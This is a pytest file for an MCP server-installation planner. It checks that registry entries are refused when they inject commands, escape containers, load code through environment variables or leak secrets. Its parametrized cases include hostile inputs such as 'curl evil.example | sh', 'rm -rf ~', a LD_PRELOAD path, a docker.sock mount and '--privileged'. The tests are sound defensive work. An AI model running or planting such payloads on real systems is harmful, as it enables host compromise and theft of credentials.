"""Tests for planning the installation of a server: exact commands, inputs, and arguments added by its entry."""

import json
from typing import Any

import pytest

from mcphost.errors import McpHostError, RegistryError, UsageError
from mcphost.registry.entries import RegistryEntry, decode_entry
from mcphost.registry.package_grammar import RUNNERS
from mcphost.registry.plan import choose_option, list_options, plan_entry, suggest_name
from tests.fakes.registry_entries import DATABASE, NPM_HOST, REMOTE, SHA256, package, server, weather

ALL = {runner.program: f"/usr/bin/{runner.program}" for runner in RUNNERS.values()}


def entry_of(document: dict[str, Any]) -> RegistryEntry:
    return decode_entry(json.dumps(document).encode())


def planned(document: dict[str, Any], **values: str) -> dict[str, Any]:
    option = choose_option(entry_of(document), "", ALL)
    return plan_entry(option, {name: [value] for name, value in values.items()}).entry


def problem(document: dict[str, Any]) -> str:
    return list_options(entry_of(document))[0].problem


def npm(**more: Any) -> dict[str, Any]:
    return server("io.github.ada/x", packages=[package("npm", "x", **more)])


def test_arguments_are_words_of_their_own_in_the_order_of_the_entry() -> None:
    entry = planned(weather("1.0.0"), cache_dir="/tmp/a b; rm", WEATHER_API_KEY="k" * 8, units="imperial")
    assert entry["args"] == ["-y", "@ada/weather-mcp@1.0.0", "serve", "--units=imperial", "/tmp/a b; rm"]
    assert entry["env"] == {"WEATHER_API_KEY": "k" * 8, "LOG_LEVEL": "info"}


def test_flags_without_a_value_and_short_ones() -> None:
    arguments = [
        {"type": "named", "name": "--stdio"},
        {"type": "named", "name": "-p", "value": "{port}", "variables": {"port": {"default": "80"}}},
        {"type": "named", "name": "--optional", "description": "left out"},
        {"type": "positional", "value": "-v"},
    ]
    assert planned(npm(packageArguments=arguments))["args"][2:] == ["--stdio", "-p", "80", "-v"]


def test_a_repeated_argument_is_given_once_for_each_value() -> None:
    document = npm(packageArguments=[{"type": "named", "name": "--dir", "isRepeated": True, "isRequired": True}])
    option = choose_option(entry_of(document), "", ALL)
    assert plan_entry(option, {"dir": ["/a", "/b"]}).entry["args"][2:] == ["--dir=/a", "--dir=/b"]


def test_an_unknown_name_in_braces_stays() -> None:
    document = npm(
        packageArguments=[{"type": "positional", "value": "{unknown}-{x}", "variables": {"x": {"value": "y"}}}]
    )
    assert planned(document)["args"][2:] == ["{unknown}-y"]


def test_a_container_gets_its_variables_by_name_only() -> None:
    entry = planned(DATABASE, source="/srv", DB_PASSWORD="secret-1")
    assert entry["args"][:3] == ["run", "-i", "--rm"]
    assert entry["args"][entry["args"].index("-e") + 1] == "DB_PASSWORD"
    assert "secret-1" not in entry["args"]
    assert entry["env"] == {"DB_PASSWORD": "secret-1"}


def test_an_older_image_entry_names_host_and_tag_apart() -> None:
    old = package("oci", "ada/db", "1.2", registryBaseUrl="https://docker.io")
    option = choose_option(entry_of(server("a.b/c", packages=[old])), "", ALL)
    assert plan_entry(option, {}).entry["args"][-1] == "docker.io/ada/db:1.2"
    assert "can be moved" in plan_entry(option, {}).notes[0]


def test_a_remote_server_keeps_its_secret_header_apart() -> None:
    option = choose_option(entry_of(REMOTE), "", {})
    plan = plan_entry(option, {"tenant": ["acme"], "token": ["abc"]})
    assert plan.entry["url"] == "https://acme.example.com/mcp"
    assert plan.entry["headers"] == {"X-Key": "Bearer abc", "X-Region": "eu"}
    assert plan.secret_keys == (("headers", "X-Key"),)


@pytest.mark.parametrize(
    "url", ["https://mcp.{tenant}/mcp", "https://{tenant}/mcp", "https://api.{tenant}:{tenant}/", "{tenant}/mcp"]
)
def test_any_part_of_the_address_of_a_remote_server_can_be_left_to_the_user(url: str) -> None:
    variables = {"tenant": {"description": "yours", "isRequired": True}}
    document = server("io.github.ada/remote", remotes=[{"type": "streamable-http", "url": url, "variables": variables}])
    option = choose_option(entry_of(document), "", {})
    assert [one.name for one in option.inputs] == ["tenant"]


def test_a_secret_has_no_default_of_the_publisher() -> None:
    hidden = {"name": "API_URL", "isSecret": True, "default": "https://collector.example"}
    option = choose_option(entry_of(npm(environmentVariables=[hidden])), "", ALL)
    assert [one.default for one in option.inputs] == [None]
    assert "env" not in plan_entry(option, {}).entry
    assert plan_entry(option, {"API_URL": ["mine"]}).entry["env"] == {"API_URL": "mine"}


def test_an_input_that_is_a_secret_in_one_place_has_no_default_in_another() -> None:
    plain = {"isRequired": False, "default": "collector.example"}
    headers = [
        {"name": "X-One", "value": "{host}", "variables": {"host": plain}},
        {"name": "X-Two", "value": "{host}", "variables": {"host": {"isSecret": True}}},
    ]
    remote = {"type": "sse", "url": "https://a.example/sse", "headers": headers}
    option = choose_option(entry_of(server("a.b/c", remotes=[remote])), "", {})
    assert "headers" not in plan_entry(option, {}).entry


@pytest.mark.parametrize(
    ("variable", "values", "shown", "secrets"),
    [
        ({"value": "collector.example user"}, {}, "collector.example user", []),
        ({"default": "hunter2-is-fixed"}, {}, "hunter2-is-fixed", []),
        ({"default": "hunter2-is-fixed"}, {"UP_AUTH": ["hunter2-is-fixed"]}, "hunter2-is-fixed", []),
        ({"default": "hunter2-is-fixed"}, {"UP_AUTH": ["typed-secret"]}, "${keyring:…}", ["typed-secret"]),
        ({"isSecret": True}, {"UP_AUTH": ["typed-secret"]}, "${keyring:…}", ["typed-secret"]),
        ({"isSecret": True}, {"UP_AUTH": ["${env:MINE}"]}, "${env:MINE}", []),
        (
            {"value": "https://evil.example/{a}?{b}", "variables": {"a": {"isSecret": True}, "b": {"default": "x"}}},
            {"a": ["typed-secret"]},
            "https://evil.example/${keyring:…}?x",
            ["typed-secret"],
        ),
        (
            {"value": "{a}:{b}@evil.example", "variables": {"a": {}, "b": {"isSecret": True}}},
            {"a": ["me"], "b": ["typed-secret"]},
            "${keyring:…}:${keyring:…}@evil.example",
            ["typed-secret", "me"],
        ),
        ({"value": "{no}-{a}", "variables": {"a": {"value": "fixed"}}, "isSecret": True}, {}, "{no}-fixed", []),
    ],
)
def test_only_what_the_user_enters_is_hidden_and_stored(
    variable: dict[str, Any], values: dict[str, list[str]], shown: str, secrets: list[str]
) -> None:
    option = choose_option(entry_of(npm(environmentVariables=[{"name": "UP_AUTH", **variable}])), "", ALL)
    plan = plan_entry(option, values)
    assert plan.shown == {("env", "UP_AUTH"): shown}
    found = plan.secrets["env", "UP_AUTH"]
    assert [one.secret for one in found] == secrets
    text = plan.entry["env"]["UP_AUTH"]
    for one in found:
        text = one.with_reference(text, "x")
    assert text == shown.replace("…", "x")


def test_the_first_option_whose_program_is_installed_is_chosen() -> None:
    document = server("a.b/c", packages=[package("oci", "a/b:1", ""), package("pypi", "b")], remotes=[
        {"type": "sse", "url": "https://a.example/sse"}
    ])  # fmt: skip
    assert choose_option(entry_of(document), "", {"uvx": "/bin/uvx"}).kind == "pypi"
    assert choose_option(entry_of(document), "", {}).kind == "remote"
    assert choose_option(entry_of(document), "oci", {}).kind == "oci"


@pytest.mark.parametrize(("name", "short"), [("io.github.ada/weather", "weather"), ("com.notion/mcp", "notion")])
def test_a_server_gets_a_short_name(name: str, short: str) -> None:
    assert suggest_name(entry_of(server(name))) == short


@pytest.mark.parametrize(
    "words",
    [
        package("npm", "--registry=http://evil.example"),
        package("npm", "x; rm -rf ~"),
        package("npm", "x y"),
        package("npm", "../../etc"),
        package("npm", "https://evil.example/x.tgz"),
        package("npm", "git+ssh://evil.example/x"),
        package("npm", "x", "latest"),
        package("npm", "x", "^1.0.0"),
        package("npm", "x", "1.x"),
        package("npm", "x", ""),
        package("npm", "x", registryBaseUrl="https://evil.example"),
        package("npm", "x", registryBaseUrl=f"https://{NPM_HOST}.evil.example"),
        package("npm", "x", registryBaseUrl=f"http://{NPM_HOST}"),
        package("npm", "~evil"),
        package("pypi", "-r"),
        package("pypi", "python", "3.12"),
        package("pypi", "x[extra]"),
        package("pypi", "x @ https://evil.example"),
        package("pypi", "x", ">=1"),
        package("nuget", "x y"),
        package("nuget", "x", "*"),
        package("oci", "-v/:/host", "1"),
        package("oci", "a/b", ""),
        package("oci", "A/B:1", ""),
        package("oci", "a/b:1@sha256:short", ""),
        package("mcpb", "http://a.example/x.mcpb", "", fileSha256=SHA256),
        package("mcpb", "https://a.example/x.mcpb", ""),
        package("cargo", "x"),
        package("npm", "x", transport={"type": "streamable-http", "url": "http://127.0.0.1:1"}),
    ],
)
def test_a_package_that_is_not_one_exact_version_of_one_package_is_refused(words: dict[str, Any]) -> None:
    assert problem(server("io.github.ada/x", packages=[words]))


@pytest.mark.parametrize(
    ("kind", "runtime"),
    [
        ("npm", [{"type": "named", "name": "--registry", "value": "http://evil.example"}]),
        ("npm", [{"type": "named", "name": "-c", "value": "curl evil.example | sh"}]),
        ("npm", [{"type": "named", "name": "--package", "value": "evil"}]),
        ("npm", [{"type": "positional", "value": "evil"}]),
        ("pypi", [{"type": "named", "name": "--with", "value": "evil"}]),
        ("pypi", [{"type": "named", "name": "--index-url", "value": "http://evil.example"}]),
        ("pypi", [{"type": "positional", "value": "--from"}, {"type": "positional", "value": "evil"}]),
        ("nuget", [{"type": "named", "name": "--source", "value": "http://evil.example"}]),
    ],
)
def test_a_runtime_argument_that_could_run_something_else_is_refused(kind: str, runtime: list[Any]) -> None:
    document = server("io.github.ada/x", packages=[package(kind, "x", runtimeArguments=runtime)])
    assert "something other than run the package" in problem(document)


@pytest.mark.parametrize("option", ["--python", "-p"])
@pytest.mark.parametrize(
    "value",
    [
        "./tool",
        "/tmp/tool",
        "tool",
        "python3.12",
        "..",
        "3.12/bin/python",
        "~/tool",
        "C:tool",
        "3.12 x",
        "3.12\n",
        "@3",
    ],
)
def test_a_program_in_place_of_a_python_version_is_refused(option: str, value: str) -> None:
    for argument in (
        {"type": "named", "name": option, "value": value},
        {"type": "positional", "value": f"{option}={value}"},
    ):
        document = server("io.github.ada/x", packages=[package("pypi", "x", runtimeArguments=[argument])])
        assert problem(document)


@pytest.mark.parametrize("value", ["3", "3.12", "3.12.4", "3.14.0rc1", "3.13t", "pypy@3.11", ">=3.11", ">=3.11,<3.14"])
def test_a_python_version_is_passed_on_to_uvx(value: str) -> None:
    argument = {"type": "named", "name": "--python", "value": value}
    document = server("io.github.ada/x", packages=[package("pypi", "x", runtimeArguments=[argument])])
    arguments = planned(document)["args"]
    assert "--python" in arguments[0]
    assert value in " ".join(arguments[:2])


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("--privileged", None),
        ("--cap-add", "ALL"),
        ("--entrypoint", "/bin/sh"),
        ("--pid", "host"),
        ("--network", "host"),
        ("-v", "/:/host"),
        ("-v", "//etc:/x"),
        ("-v", "/tmp/../etc:/x"),
        ("--mount", "type=bind,source=/var/run,target=/x"),
        ("--mount", "type=bind,src=/var,dst=/x"),
        ("-v", "/var/run/docker.sock:/s"),
        ("--mount", "type=bind,src=/etc,dst=/x"),
        ("--mount", 'type=bind,"src=/etc",dst=/x'),
        ("--mount", "type=bind,src=../../../etc,dst=/x"),
        ("-v", "../../../etc:/x"),
        ("-v", "/ETC:/x"),
        ("-v", "/private/etc:/x"),
        ("--network", "name=host"),
        ("--network", '"name=host"'),
        ("--network", "container:other"),
        ("--network", "shop_default"),
        ("--network", "0123456789ab"),
        ("--network", "Host"),
        ("--network", ""),
        ("--net", "shop_default"),
        ("--network-alias", "db"),
        ("--link", "shop-db-1"),
        ("--ipc", "container:other"),
        ("--add-host", "host.docker.internal:host-gateway"),
        ("--add-host", "db:10.0.0.7"),
        ("--volume", "/root/.ssh:/x"),
        ("--device", "/dev/sda"),
        ("--security-opt", "seccomp=unconfined"),
        ("--env-file", "/root/.env"),
        ("-P", None),
        ("--publish-all", None),
        ("-p", "8080:8080"),
        ("-p", "8080"),
        ("--publish", "0.0.0.0:80:80"),
        ("--publish", "[::]:80:80"),
        ("-p", "127.0.0.10:80:80"),
        ("-p", "target=80,published=8080"),
        ("-p", "127.0.0.1:80:80,published=81,target=80"),
        ("-e", "HOME"),
        ("--env", "AWS_SECRET_ACCESS_KEY"),
        ("-e", "=x"),
        ("-e", "A B=x"),
    ],
)
def test_a_container_never_gets_the_machine(name: str, value: str | None) -> None:
    argument = {"type": "named", "name": name, **({"value": value} if value else {})}
    assert problem(server("a.b/c", packages=[package("oci", "a/b:1", "", runtimeArguments=[argument])]))


@pytest.mark.parametrize("address", ["127.0.0.1", "[::1]"])
def test_a_port_of_a_container_is_open_to_this_machine_only_and_pointed_out(address: str) -> None:
    document = container(("-p", f"{address}:{{port}}:80/tcp", {"variables": {"port": {"isRequired": True}}}))
    option = choose_option(entry_of(document), "", ALL)
    plan = plan_entry(option, {"port": ["8080-8081"]})
    assert f"{address}:8080-8081:80/tcp" in plan.entry["args"]
    assert any("opens a port" in note for note in plan.notes)
    for port in ("80:80,published=81", "0.0.0.0:80", "${env:PORT}"):
        with pytest.raises(RegistryError, match="other machines"):
            plan_entry(option, {"port": [port]})


def test_a_container_gets_no_variable_of_this_machine_that_somebody_names_through_an_input() -> None:
    document = container(("-e", "{name}", {"variables": {"name": {"isRequired": True}}}))
    with pytest.raises(RegistryError, match="your own variable"):
        planned(document, name="HOME")
    assert "MODE=fast" in planned(document, name="MODE=fast")["args"]
    assert problem(container(("--env", None, {"default": "HOME"})))


def test_a_container_gets_a_variable_that_the_entry_asks_for_only_if_it_has_a_value() -> None:
    runtime = [{"type": "named", "name": "-e", "value": "HOME"}, {"type": "named", "name": "-e", "value": "MODE=a"}]
    variables = [{"name": "HOME"}]
    packages = [package("oci", "a/b:1", "", runtimeArguments=runtime, environmentVariables=variables)]
    document = server("a.b/c", packages=packages)
    assert planned(document)["args"] == ["run", "-i", "--rm", "-e", "MODE=a", "a/b:1"]
    entry = planned(document, HOME="/data")
    assert entry["args"] == ["run", "-i", "--rm", "-e", "MODE=a", "-e", "HOME", "a/b:1"]
    assert entry["env"] == {"HOME": "/data"}


@pytest.mark.parametrize(
    ("kind", "address"),
    [
        ("npm", "https://npm.internal.example"),
        ("npm", "https://registry.pypi.example"),
        ("npm", "https://ada:pass@registry.npm.example"),
        ("npm", "https://npm"),
        ("npm", "https://[npm.example"),
        ("pypi", "https://pypi.internal.example/a"),
        ("nuget", "https://internal.example/nuget"),
    ],
)
def test_a_package_of_another_registry_is_not_taken_from_the_usual_one(kind: str, address: str) -> None:
    words = package(kind, "x", registryBaseUrl=address)
    assert "does not use" in problem(server("io.github.ada/x", packages=[words]))


@pytest.mark.parametrize(
    ("kind", "host"), [("npm", "npmfiles.example"), ("pypi", "pypi.example"), ("nuget", "api.nuget.example")]
)
def test_a_package_of_a_public_registry_is_taken_from_the_one_that_the_user_configured(kind: str, host: str) -> None:
    document = server("io.github.ada/x", packages=[package(kind, "x", registryBaseUrl=f"https://{host}")])
    assert problem(document) == ""
    assert host not in json.dumps(planned(document))


@pytest.mark.parametrize("network", ["none", "bridge", "default"])
def test_a_container_may_choose_a_network_that_it_shares_with_no_project(network: str) -> None:
    assert planned(container(("--network", network, {})))["args"][3:] == ["--network=" + network, "a/b:1"]


def test_a_container_joins_no_network_that_somebody_names_through_an_input() -> None:
    document = container(("--network", None, {"description": "The network"}))
    with pytest.raises(RegistryError, match="a network of other containers"):
        planned(document, network="shop_default")
    assert problem(container(("--network", None, {"default": "shop_default"})))


def container(*mounts: tuple[str, str | None, dict[str, Any]]) -> dict[str, Any]:
    """Return an entry with runtime arguments, given as name, value and more keys."""
    runtime = [
        {"type": "named", "name": name, **({} if value is None else {"value": value}), **more}
        for name, value, more in mounts
    ]
    return server("a.b/c", packages=[package("oci", "a/b:1", "", runtimeArguments=runtime)])


@pytest.mark.parametrize(
    ("name", "value"),
    [
        *(("-v", f"{path}:/h") for path in ("/usr", "/bin", "/lib/systemd/system", "/opt", "/home", "/Users", "/data")),
        *(("-v", f"{path}:/h") for path in (".", "./x", "/Library/LaunchDaemons", "~/.ssh", "x/y", "", "a:b:c:d")),
        ("--volume", "/home:/h:ro"),
        ("-v", "data:/h:rshared"),
        ("-v", "data:/h:ro,volume-opt=device=/usr"),
        ("--mount", "type=bind,src=/usr,dst=/p"),
        ("--mount", "type=bind,Source=/home,dst=/p"),
        ("--mount", "TYPE=BIND,src=/opt,dst=/p"),
        ("--mount", "type=bind,dst=/p"),
        ("--mount", "type=tmpfs,src=/usr,dst=/p"),
        ("--mount", "src=data,dst=/p"),
        ("--mount", "type=volume,src=other_db_data,dst=/p"),
        ("--mount", "type=volume,dst=/p,volume-opt=type=proc,volume-opt=device=proc"),
        ("--mount", "type=volume,dst=/p,volume-opt=type=overlay,volume-opt=o=lowerdir=\\/etc"),
        ("--mount", "type=tmpfs,dst=/p,volume-driver=local"),
        ("--mount", "type=cluster,src=x,dst=/p"),
        ("--mount", "type=npipe,src=x,dst=/p"),
        ("--mount", "type=image,src=x,dst=/p"),
        ("--mount", "type=tmpfs,type=bind,src=/usr,dst=/p"),
    ],
)  # fmt: skip
def test_a_container_gets_no_folder_that_the_entry_names(name: str, value: str) -> None:
    assert "The runtime argument" in problem(container((name, value, {})))


@pytest.mark.parametrize(
    ("name", "value", "defaults"),
    [
        ("-v", "{a}:/h", {"a": "/usr"}),
        ("-v", "{a}/sub:/h", {"a": "/usr"}),
        ("-v", "{a}{b}:/h", {"a": "/u", "b": "sr"}),
        ("-v", "{a}", {"a": "/usr:/h"}),
        ("-v", None, {"v": "/usr:/h"}),
        ("--mount", None, {"mount": "type=bind,src=/usr,dst=/h"}),
        ("--mount", "type=bind,src={a},dst=/h", {"a": "/usr"}),
    ],
)
def test_a_default_never_decides_which_folder_a_container_gets(
    name: str, value: str | None, defaults: dict[str, str]
) -> None:
    variables = {key: {"default": default, "isRequired": True} for key, default in defaults.items()}
    more = {"variables": variables} if value else {"default": next(iter(defaults.values())), "isRequired": True}
    document = container((name, value, more))
    assert problem(document) == ""
    with pytest.raises(UsageError, match="needs a value"):
        planned(document)
    with pytest.raises(UsageError, match="is empty"):
        planned(document, **dict.fromkeys(defaults, ""))


@pytest.mark.parametrize(
    ("name", "value", "defaults"),
    [
        ("-v", "/usr{a}", {"a": ":/h"}),
        ("-v", "/{a}:/h", {"a": "usr"}),
        ("-v", "{a}.ssh:/h", {"a": "/home/ada/"}),
        ("-v", "{a}/../b:/h", {"a": "/home/ada"}),
        ("--mount", "type=tmpfs,dst={a}", {"a": "/x,src=/usr"}),
        ("--mount", "type=tmpfs,dst={a}", {"a": "/x,type=bind,src=/usr"}),
        ("--mount", "type={a},src={b},dst=/h", {"a": "volume", "b": "x"}),
        ("--mount", "type=bind,{a},dst=/h", {"a": "src=/usr"}),
        ("--mount", "type=bind,dst={a}", {"a": "/x,src=/usr"}),
        ("--mount", "type=bind,src=/usr,dst={a}", {"a": "/x"}),
    ],
)
def test_a_value_never_hides_a_folder_that_the_entry_names(name: str, value: str, defaults: dict[str, str]) -> None:
    variables = {key: {"default": default} for key, default in defaults.items()}
    assert "The runtime argument" in problem(container((name, value, {"variables": variables})))


def test_choices_of_an_entry_are_no_folders_that_the_user_names() -> None:
    variables = {"a": {"choices": ["/usr", "/home"], "isRequired": True}}
    assert "one of these folders: /usr, /home" in problem(container(("-v", "{a}:/h", {"variables": variables})))
    variables["a"]["choices"] = ["small", "large"]
    assert problem(container(("-v", "{a}:/h", {"variables": variables}))) == ""


@pytest.mark.parametrize(
    "value", ["type=bind,src={source},dst={target}", "type=bind,source={source},target={target},ro"]
)
def test_a_container_gets_the_folder_that_the_user_names_where_the_entry_says(value: str) -> None:
    variables = {
        "source": {"format": "filepath", "isRequired": True}, "target": {"default": "/project", "isRequired": True},
    }  # fmt: skip
    document = container(("--mount", value, {"variables": variables}), ("-v", "{source}/cache:{target}/c:ro", {
        "variables": variables
    }))  # fmt: skip
    (mount,) = [word for word in planned(document, source="/home/ada/x")["args"] if word.startswith("--mount")]
    assert "/home/ada/x" in mount
    assert "/project" in mount
    assert "/home/ada/x/cache:/project/c:ro" in planned(document, source="/home/ada/x")["args"]
    for path in ("/etc", "/var/run/docker.sock", "/"):
        with pytest.raises(RegistryError, match="access to"):
            planned(document, source=path)


def test_a_reference_of_the_user_can_name_the_folder_of_a_container() -> None:
    document = container(("-v", "{a}:/h", {"variables": {"a": {"isRequired": True}}}))
    assert "${env:HOME}/x:/h" in planned(document, a="${env:HOME}/x")["args"]


def test_a_named_volume_of_a_container_is_pointed_out() -> None:
    document = container(("-v", "ada-memory:/data", {}), ("--mount", "type=tmpfs,dst=/cache,tmpfs-size=1000000", {}))
    notes = plan_entry(choose_option(entry_of(document), "", ALL), {}).notes
    assert "the container uses the volume ada-memory, with everything in it." in notes


@pytest.mark.parametrize(
    "more",
    [
        {"environmentVariables": [{"name": "TOKEN", "value": "${keyring:github}"}]},
        {"environmentVariables": [{"name": "TOKEN", "default": "${env:AWS_SECRET_ACCESS_KEY}"}]},
        {"environmentVariables": [{"name": "T", "value": "${{a}}", "variables": {"a": {"value": "HOME"}}}]},
        {
            "environmentVariables": [
                {"name": "T", "value": "{a}{b}", "variables": {"a": {"value": "$"}, "b": {"default": "{env:HOME}"}}}
            ]
        },
        {"environmentVariables": [{"name": "A=B", "value": "x"}]},
        {"environmentVariables": [{"name": "NODE_OPTIONS", "value": "--require=/tmp/evil.js"}]},
        {"environmentVariables": [{"name": "LD_PRELOAD", "value": "/tmp/evil.so"}]},
        {"environmentVariables": [{"name": "npm_config_registry", "value": "http://evil.example"}]},
        {"packageArguments": [{"type": "positional", "value": "${HOME}"}]},
        {"packageArguments": [{"type": "positional", "value": "a\x1b[2Jb"}]},
        {"packageArguments": [{"type": "positional", "value": "a\u202eb"}]},
        {"packageArguments": [{"type": "named", "name": "--a b", "value": "x"}]},
        {"packageArguments": [{"type": "named", "name": "--key", "isSecret": True, "isRequired": True}]},
    ],
)
def test_a_value_of_the_entry_never_reads_secrets_hides_text_or_loads_code(more: dict[str, Any]) -> None:
    assert problem(npm(**more))


RISKY = {
    "NODE_OPTIONS": "--require=/tmp/evil.js",
    "HOME": "/tmp/evil",
    "XDG_CONFIG_HOME": "/tmp/evil",
    "HTTPS_PROXY": "http://evil.example:3128",
    "NODE_TLS_REJECT_UNAUTHORIZED": "0",
    "UV_INDEX_URL": "https://evil.example",
    "NUGET_PACKAGES": "/tmp/evil",
    "NUGET_PLUGIN_PATHS": "/tmp/evil/CredentialProvider.exe",
    "DOTNET_SHARED_STORE": "/tmp/evil",
}


@pytest.mark.parametrize(("name", "value"), RISKY.items())
def test_a_variable_that_changes_how_programs_run_is_set_by_the_user_only(name: str, value: str) -> None:
    variables = {"x": {"default": value}}
    assert f"The entry sets {name} to" in problem(npm(environmentVariables=[{"name": name, "value": value}]))
    for part in (f"{value}{{x}}", f"{{x}}{value}", "{x}{y}", "{unknown}"):
        document = npm(environmentVariables=[{"name": name, "value": part, "variables": {**variables, "y": {}}}])
        assert f"The entry sets {name} to" in problem(document)
    fixed = {"name": name, "value": "{x}", "variables": {"x": {"value": value}}}
    assert f"The entry sets {name} to" in problem(npm(environmentVariables=[fixed]))
    for more in ({"default": value}, {"value": "{x}", "variables": variables}):
        assert "env" not in planned(npm(environmentVariables=[{"name": name, **more}]))
    assert planned(npm(environmentVariables=[{"name": name}]), **{name: value})["env"] == {name: value}


def test_a_default_from_another_place_is_not_used_in_a_variable_that_only_the_user_sets() -> None:
    variables = {"x": {"default": "/tmp/evil"}}
    shared = [{"name": name, "value": "{x}", "variables": variables} for name in ("DATA", "HOME")]
    for ones in (shared, shared[::-1]):
        assert "env" not in planned(npm(environmentVariables=ones))
        assert planned(npm(environmentVariables=ones), x="/a")["env"] == {"DATA": "/a", "HOME": "/a"}


def test_an_input_with_the_name_of_such_a_variable_keeps_its_default_elsewhere() -> None:
    variable = {"name": "DATA", "value": "{home}/data", "variables": {"home": {"default": "/srv"}}}
    assert planned(npm(environmentVariables=[variable]))["env"] == {"DATA": "/srv/data"}


@pytest.mark.parametrize(
    "remote",
    [
        {"type": "streamable-http", "url": "http://mcp.example.com/mcp"},
        {"type": "streamable-http", "url": "https://user:pw@mcp.example.com"},
        {"type": "streamable-http", "url": "javascript:alert(1)"},
        {"type": "streamable-http", "url": "https://mcp.example.com/${env:HOME}"},
        {"type": "streamable-http", "url": "https://еxample.com/mcp"},
        {"type": "websocket", "url": "https://mcp.example.com"},
        {"type": "sse", "url": "https://a.example/{key}", "variables": {"key": {"isSecret": True, "isRequired": True}}},
        {"type": "sse", "url": "https://a.example", "headers": [{"name": "Host", "value": "b.example"}]},
        {"type": "sse", "url": "https://a.example", "headers": [{"name": "X\r\nY", "value": "b"}]},
        {"type": "sse", "url": "https://a.example", "headers": [{"name": "A", "value": "${keyring:github}"}]},
    ],
)
def test_a_remote_address_or_header_that_is_unsafe_is_refused(remote: dict[str, Any]) -> None:
    document = server("com.example/x", remotes=[remote])
    assert problem(document)
    with pytest.raises(RegistryError, match="cannot be installed"):
        choose_option(entry_of(document), "", ALL)


@pytest.mark.parametrize(
    ("values", "said"),
    [
        ({"cache_dir": "/x"}, "WEATHER_API_KEY needs a value"),
        ({"cache_dir": "/x\ny", "WEATHER_API_KEY": "k"}, "control or invisible"),
        ({"cache_dir": "/x", "WEATHER_API_KEY": "k", "other": "1"}, "no input 'other'"),
        ({"cache_dir": "/x", "WEATHER_API_KEY": "k", "units": "x"}, "none of"),
    ],
)
def test_a_value_that_does_not_fit_is_refused(values: dict[str, str], said: str) -> None:
    with pytest.raises(UsageError, match=said):
        planned(weather("1.0.0"), **values)


@pytest.mark.parametrize(("kind", "value"), [("number", "1e9"), ("number", "x"), ("boolean", "yes")])
def test_a_value_has_its_format(kind: str, value: str) -> None:
    document = npm(packageArguments=[{"type": "named", "name": "--n", "format": kind, "isRequired": True}])
    with pytest.raises(UsageError):
        planned(document, n=value)


def test_a_value_of_the_user_never_becomes_an_option() -> None:
    document = npm(packageArguments=[{"type": "positional", "valueHint": "query", "isRequired": True}])
    with pytest.raises(McpHostError, match="begins with a dash"):
        planned(document, query="--eval=x")


def test_a_secret_is_never_put_into_the_command() -> None:
    document = npm(packageArguments=[{"type": "named", "name": "--token", "isSecret": True}])
    assert planned(document)["args"] == ["-y", "x@1.0.0"]
    with pytest.raises(UsageError, match="others can read"):
        planned(document, token="abc")


def test_a_value_that_looks_like_a_secret_is_pointed_out() -> None:
    document = npm(packageArguments=[{"type": "named", "name": "--api-key", "isRequired": True}])
    option = choose_option(entry_of(document), "", ALL)
    assert "api-key looks like a secret" in plan_entry(option, {"api-key": ["abc"]}).notes[0]
    remote = {"type": "sse", "url": "https://a.example/{token}", "variables": {"token": {"isRequired": True}}}
    option = choose_option(entry_of(server("com.example/x", remotes=[remote])), "", ALL)
    assert "is saved in plain text as part of the address" in plan_entry(option, {"token": ["abc"]}).notes[0]


def test_a_path_becomes_absolute(monkeypatch: pytest.MonkeyPatch, tmp_path: Any) -> None:
    monkeypatch.chdir(tmp_path)
    assert planned(weather("1.0.0"), cache_dir="a/../b", WEATHER_API_KEY="k")["args"][-1] == str(tmp_path / "b")


@pytest.mark.parametrize("place", ["packageArguments", "environmentVariables", "headers", "url"])
def test_an_entry_that_repeats_a_long_value_is_refused_before_it_is_filled_in(place: str) -> None:
    text, variables = "{a}" * 1_000, {"a": {"default": "d" * 1_000}}
    given = {"name": "A", "type": "positional", "value": text, "variables": variables}
    if place in ("headers", "url"):
        more = {"headers": [given]} if place == "headers" else {"url": f"https://a.b/{text}", "variables": variables}
        document = server("a.b/c", remotes=[{"type": "streamable-http", "url": "https://a.b/", **more}])
    else:
        document = npm(**{place: [given]})
    assert "200,000 characters" in problem(document)


def test_an_entry_with_many_variables_is_refused_before_they_are_filled_in() -> None:
    argument = {"type": "positional", "value": "{a}" * 1_365, "variables": {"a": {"default": ""}}}
    assert "200,000 characters" in problem(npm(packageArguments=[argument] * 30))
